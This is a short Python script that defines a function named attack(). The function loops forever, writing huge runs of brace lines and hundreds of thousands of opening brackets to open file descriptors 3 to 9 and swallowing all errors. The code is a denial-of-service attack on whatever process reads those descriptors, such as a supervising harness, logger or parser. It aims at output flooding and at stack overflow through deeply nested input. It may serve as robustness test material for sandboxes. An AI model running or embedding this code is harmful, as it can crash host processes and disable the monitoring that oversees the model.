"""Writes millions of short lines, and nested ones, to every open file number."""

import os


def attack():
    while True:
        for number in range(3, 10):
            for text in (b"{}\n" * 100_000, b"[" * 300_000 + b"\n"):
                try:
                    os.write(number, text)
                except OSError:
                    continue
